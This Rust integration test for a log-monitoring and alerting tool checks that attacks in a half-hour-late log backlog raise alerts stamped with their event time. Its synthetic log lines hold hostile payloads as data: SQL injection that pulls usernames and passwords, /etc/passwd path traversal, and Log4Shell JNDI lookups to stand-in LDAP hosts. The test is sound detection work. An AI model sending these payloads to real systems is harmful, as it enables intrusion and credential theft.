//! A source far behind the others is still evaluated (issue 15, MISSION
//! row 37): two web servers behind one load balancer, each with its own
//! real agent; the second ships its backlog half an hour late, as an agent
//! does when it drains its spool after an outage. The attacks in that
//! backlog page through a real webhook receiver, and the page, the API and
//! `alerts list` say when the evidence happened, not only when it arrived.

use crate::common;

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use common::*;
use serde_json::Value;

const NANOS: i64 = 1_000_000_000;

fn line(ip: &str, at: i64, request: &str, status: u16, ua: &str) -> String {
    format!(
        "{ip} - - [{}] \"{request} HTTP/1.1\" {status} 512 \"-\" \"{ua}\"\n",
        nginx_time(at, 0)
    )
}

/// Ordinary traffic over `[from, from + secs)`, one line a second from a
/// few clients, with a failed login now and then (below every threshold).
fn ordinary(from: i64, secs: i64, seed: u64) -> String {
    let mut r = Rng::new(seed);
    let paths = [
        "/",
        "/products/42",
        "/static/app.js",
        "/api/v1/cart",
        "/login",
    ];
    let mut text = String::new();
    for s in 0..secs {
        let ip = format!("192.0.2.{}", 1 + r.below(40));
        let path = *r.pick(&paths);
        let (request, status) = match (path, r.below(10)) {
            ("/login", 0) => ("POST /login".to_string(), 401),
            ("/login", _) => ("GET /login".to_string(), 200),
            (p, _) => (format!("GET {p}"), 200),
        };
        text.push_str(&line(&ip, from + s, &request, status, "Mozilla/5.0"));
    }
    text
}

#[test]
fn attacks_in_a_backlog_half_an_hour_late_page_with_their_event_time() {
    let root = tempfile::tempdir().expect("tempdir");
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let hook = WebhookRecorder::start();
    let mut c = Collector::start(
        root.path(),
        Settings {
            rules_dir: Some(repo.join("rules")),
            ..Settings::default()
        },
    );
    // One page per alert, warnings after 1 s.
    c.kill();
    append(
        &c.config_path,
        &format!(
            "\n[alerting]\n[alerting.route]\nreceiver = \"hook\"\ngroup_by = [\"...\"]\n\
             group_wait = \"1s\"\ngroup_interval = \"1s\"\n\
             [[alerting.receivers]]\nname = \"hook\"\nkind = \"webhook\"\nurl = \"{}\"\n",
            hook.url("/hook")
        ),
    );
    c.restart();

    let now = now_unix();
    // web-1 is live: the last five minutes, with a scanner whose probes
    // reach every rule the late attacks need (under one watermark per
    // rule, these lines are what made web-2's lines "late").
    let mut live = ordinary(now - 300, 290, 1);
    let scanner = "198.51.100.20";
    for (i, request) in [
        "GET /products?id=1%27%20OR%201=1--",
        "GET /../../etc/passwd",
        "GET /login",
        "POST /login",
    ]
    .iter()
    .enumerate()
    {
        live.push_str(&line(
            scanner,
            now - 8 + i as i64,
            request,
            401,
            "Mozilla/5.0",
        ));
    }
    live.push_str(&line(
        scanner,
        now - 3,
        "GET /",
        200,
        "${jndi:ldap://198.51.100.20/a}",
    ));
    let web1 = root.path().join("web1.log");
    fs::write(&web1, &live).expect("web1 log");
    let web1_args: Vec<std::ffi::OsString> = vec![
        "--state-dir".into(),
        root.path().join("web1-state").into(),
        web1.clone().into(),
    ];
    let web1_args: Vec<&std::ffi::OsStr> = web1_args.iter().map(|a| a.as_os_str()).collect();
    let _web1_agent = c.spawn_agent_as("web-1", "web1-agent", &web1_args);
    c.wait_for_count("host:web-1", live.lines().count() as u64);

    // web-2's backlog: 35 to 30 minutes ago. Four attackers; each attack
    // from its own client, so the critical success-after-failures does not
    // inhibit the others (same key) and every one pages on its own.
    let t0 = now - 35 * 60;
    let mut backlog = ordinary(t0, 300, 2);
    let brute = "203.0.113.66";
    for i in 0..25 {
        backlog.push_str(&line(
            brute,
            t0 + 60 + i,
            "POST /login",
            401,
            "python-requests/2.31",
        ));
    }
    backlog.push_str(&line(
        brute,
        t0 + 90,
        "POST /login",
        302,
        "python-requests/2.31",
    ));
    let sqli = "203.0.113.67";
    backlog.push_str(&line(
        sqli,
        t0 + 120,
        "GET /products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        200,
        "Mozilla/5.0",
    ));
    let log4shell = "203.0.113.68";
    backlog.push_str(&line(
        log4shell,
        t0 + 150,
        "GET /",
        200,
        "${jndi:ldap://203.0.113.68:1389/Exploit}",
    ));
    let traversal = "203.0.113.69";
    backlog.push_str(&line(
        traversal,
        t0 + 180,
        "GET /static/..%2f..%2f..%2fetc/passwd",
        404,
        "Mozilla/5.0",
    ));
    let web2 = root.path().join("web2.log");
    fs::write(&web2, &backlog).expect("web2 log");
    let web2_args: Vec<std::ffi::OsString> = vec![
        "--state-dir".into(),
        root.path().join("web2-state").into(),
        web2.clone().into(),
    ];
    let web2_args: Vec<&std::ffi::OsStr> = web2_args.iter().map(|a| a.as_os_str()).collect();
    let _web2_agent = c.spawn_agent_as("web-2", "web2-agent", &web2_args);
    c.wait_for_count("host:web-2", backlog.lines().count() as u64);

    let expect = [
        ("web-login-success-after-failures", brute, t0 + 60, t0 + 90),
        ("web-sqli-probe", sqli, t0 + 120, t0 + 120),
        ("web-log4shell", log4shell, t0 + 150, t0 + 150),
        ("web-path-traversal", traversal, t0 + 180, t0 + 180),
    ];
    for (rule, key, from, to) in expect {
        let page = wait_until(&format!("a page about {rule} for {key}"), || {
            hook.requests_to("/hook").into_iter().find(|p| {
                p.json["alerts"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| x["rule_id"] == rule && x["key"] == key))
            })
        });
        let alert = page.json["alerts"]
            .as_array()
            .and_then(|a| a.iter().find(|x| x["rule_id"] == rule))
            .cloned()
            .unwrap_or(Value::Null);
        // When the evidence happened (event time), half an hour before the
        // page; and the page was sent now.
        let evidence_from = alert["evidence_from"].as_i64().unwrap_or(0) / NANOS;
        let evidence_to = alert["evidence_to"].as_i64().unwrap_or(0) / NANOS;
        assert_eq!(
            (evidence_from, evidence_to),
            (from, to),
            "{rule}: {alert:#}"
        );
        let started = alert["starts_at"].as_i64().unwrap_or(0) / NANOS;
        assert!(
            started >= now,
            "{rule} paged at {started}, before the test began"
        );
        let at = alert["annotations"]["evidence_at"].as_str().unwrap_or("");
        assert_eq!(at, rfc3339(from), "{rule}: {alert:#}");
        let late = alert["annotations"]["evidence_delay"]
            .as_str()
            .unwrap_or("");
        assert!(
            late.ends_with('m'),
            "{rule}: the page says the evidence is late: {alert:#}"
        );
    }
    // The brute force itself fired too (muted by its critical follow-up).
    let alerts = c.api_json("/api/v1/alerts")["alerts"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let brute_force = alerts
        .iter()
        .find(|a| a["rule_id"] == "web-login-brute-force" && a["key"] == brute)
        .unwrap_or_else(|| panic!("no brute-force alert for {brute}: {alerts:#?}"));
    assert_eq!(
        brute_force["evidence_from"].as_i64().map(|t| t / NANOS),
        Some(t0 + 60)
    );

    // `alerts list` shows when the evidence happened.
    let out = Command::new(BIN)
        .args(["alerts", "list", "--server"])
        .arg(c.server())
        .arg("--ca")
        .arg(&c.ca)
        .arg("--token-file")
        .arg(&c.token_file)
        .output()
        .expect("alerts list");
    assert!(out.status.success(), "{}", stderr_of(&out));
    let table = stdout_of(&out);
    let header = table.lines().next().unwrap_or_default();
    assert!(header.contains("EVIDENCE"), "{table}");
    let row = table
        .lines()
        .find(|l| l.contains("web-sqli-probe") && l.contains(sqli))
        .unwrap_or_else(|| panic!("no sqli row: {table}"));
    assert!(row.contains(&rfc3339(t0 + 120)), "{row}");

    // Nothing in the backlog was too old for its rules: every key of the
    // late host is its own, and the shared ones stay inside the grace.
    let rules = c.api_json("/api/v1/rules");
    let too_late: u64 = rules["rules"]
        .as_array()
        .map(|r| r.iter().filter_map(|x| x["lines_too_late"].as_u64()).sum())
        .unwrap_or(u64::MAX);
    assert_eq!(too_late, 0, "{rules:#}");
}

fn rfc3339(unix_secs: i64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp(unix_secs).expect("timestamp");
    t.format(&time::format_description::well_known::Rfc3339)
        .expect("formats")
}
